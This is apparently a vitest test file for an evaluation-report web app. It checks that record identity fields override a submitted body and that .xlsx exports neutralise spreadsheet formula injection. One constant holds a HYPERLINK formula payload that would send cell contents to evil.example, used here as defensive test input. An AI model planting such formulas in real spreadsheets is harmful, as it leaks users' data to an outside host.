/**
 * What is shown and exported: the unit, its department, the year and the kind come from the
 * stored record (a body that says otherwise is corrected on create and on save, with a note); and text that
 * a spreadsheet would run as a formula never becomes a live formula in an exported .xlsx.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { DATABASE_KINDS, createTestDatabase, type TestDatabase } from './databases.js';
import { Client, createOrg, makeApp, sampleEvaluation, type Org } from './fixtures.js';
import { applyRecordIdentity } from '../src/use-cases/apply-record-identity.js';
import { repositories } from '../src/repositories/index.js';

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';

describe('applyRecordIdentity', () => {
  it('takes unit, department, year and kind from the record and notes every difference', () => {
    const r = applyRecordIdentity(
      { unit: { name: '乙单位', code: 'X1' }, supervisingDepartment: '二号部门', fiscalYear: 2019, kind: 'department', chapters: [] },
      { unitName: '甲单位', departmentName: '一号部门', fiscalYear: 2024, kind: 'project' },
    );
    expect(r.evaluation).toMatchObject({ unit: { name: '甲单位', code: 'X1' }, supervisingDepartment: '一号部门', fiscalYear: 2024, kind: 'project', chapters: [] });
    expect(r.corrections.map((c) => c.field)).toEqual(['unit.name', 'supervisingDepartment', 'fiscalYear', 'kind']);
    expect(r.corrections[0]!.message).toBe('报告中的单位名称“乙单位”与登记信息不符，已按登记信息改为“甲单位”');
    expect(r.corrections[3]!.message).toContain('部门整体支出');
    expect(applyRecordIdentity({ unit: { name: '甲单位' } }, { unitName: '甲单位', departmentName: '一号部门', fiscalYear: 2024, kind: 'project' }).corrections).toEqual([]);
  });
});

describe.each(DATABASE_KINDS)('record identity on %s', (kind) => {
  let t: TestDatabase;
  let org: Org;
  let filler: Client;
  beforeAll(async () => {
    t = await createTestDatabase(kind);
    org = await createOrg(t.ctx);
    filler = new Client(makeApp(t.ctx));
    await filler.login('fillerA');
  });
  afterAll(async () => {
    await t?.close();
  });

  it("a body naming another unit is corrected on create and on save, with a note in the answer and the history", async () => {
    const created = await filler.post('/api/evaluations', { unitId: org.unitA, fiscalYear: 2024, kind: 'project', evaluation: sampleEvaluation(2024, { unit: { name: '乙单位' }, supervisingDepartment: '二号部门' }) });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    // Corrected on create too, and the answer says so, as a save's does.
    expect(created.body.corrections.map((c: { field: string }) => c.field)).toEqual(['unit.name', 'supervisingDepartment']);
    expect(created.body.corrections[0].message).toBe('报告中的单位名称“乙单位”与登记信息不符，已按登记信息改为“甲单位”');
    expect(created.body.evaluation).toMatchObject({ unit: { name: '甲单位' }, supervisingDepartment: '一号部门' });
    const id = created.body.id;
    const stored = await repositories(t.ctx.db).evaluations.findById(id);
    expect(stored!.data).toMatchObject({ unit: { name: '甲单位' }, supervisingDepartment: '一号部门' });

    const saved = await filler.put(`/api/evaluations/${id}`, { version: 1, evaluation: sampleEvaluation(2024, { unit: { name: '丙单位' }, supervisingDepartment: '二号部门', fiscalYear: 2030, kind: 'department' }) });
    expect(saved.status, JSON.stringify(saved.body)).toBe(200);
    expect(saved.body.corrections.map((c: { field: string }) => c.field)).toEqual(['unit.name', 'supervisingDepartment', 'fiscalYear', 'kind']);
    expect(saved.body.corrections[0].message).toContain('丙单位');
    const detail = await filler.get(`/api/evaluations/${id}`);
    expect(detail.body.evaluation).toMatchObject({ unit: { name: '甲单位' }, supervisingDepartment: '一号部门', fiscalYear: 2024, kind: 'project' });
    const exported = await filler.get(`/api/evaluations/${id}/export?format=json`);
    expect(JSON.stringify(exported.body)).not.toContain('丙单位');
    const history = await filler.get(`/api/evaluations/${id}/history`);
    expect(JSON.stringify(history.body.at(-1))).toContain('已按登记信息改为“甲单位”');
    expect(JSON.stringify(history.body[0])).toContain('报告中的单位名称“乙单位”');
  });

  it('a body that agrees with the record is created without corrections', async () => {
    const created = await filler.post('/api/evaluations', { unitId: org.unitA, fiscalYear: 2024, kind: 'project', evaluation: sampleEvaluation(2024, { unit: { name: '甲单位' } }) });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(created.body.corrections).toEqual([]);
    const history = await filler.get(`/api/evaluations/${created.body.id}/history`);
    expect(JSON.stringify(history.body[0])).not.toContain('corrections');
  });
});

describe('spreadsheet formula injection in the server export', () => {
  let t: TestDatabase;
  let org: Org;
  beforeAll(async () => {
    t = await createTestDatabase('pglite');
    org = await createOrg(t.ctx);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('an indicator named like a formula is a Text-format text cell in the .xlsx, never a formula', async () => {
    const c = new Client(makeApp(t.ctx));
    await c.login('fillerA');
    const evaluation = sampleEvaluation();
    (evaluation.indicators[0] as { children: { children: { name: string }[] }[] }).children[0]!.children[0]!.name = EVIL;
    const created = await c.post('/api/evaluations', { unitId: org.unitA, fiscalYear: 2024, kind: 'project', evaluation });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const res = await makeApp(t.ctx).request(`/api/evaluations/${created.body.id}/export?format=xlsx`, { headers: { cookie: c.cookie! } });
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const formulaLike: { text: string; numFmt: string | undefined }[] = [];
    const formulas: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          const v = cell.value as unknown;
          if (typeof v === 'string' && /^[=+@]/.test(v)) formulaLike.push({ text: v, numFmt: cell.numFmt });
          else if (v && typeof v === 'object' && 'formula' in v) formulas.push(String((v as { formula: string }).formula));
        }),
      ),
    );
    expect(formulaLike.map((c) => c.text)).toContain(EVIL);
    expect(formulaLike.filter((c) => c.numFmt !== '@')).toEqual([]); // every such cell is in the Text format
    expect(formulas.filter((f) => /HYPERLINK|evil/i.test(f))).toEqual([]);
  });
});
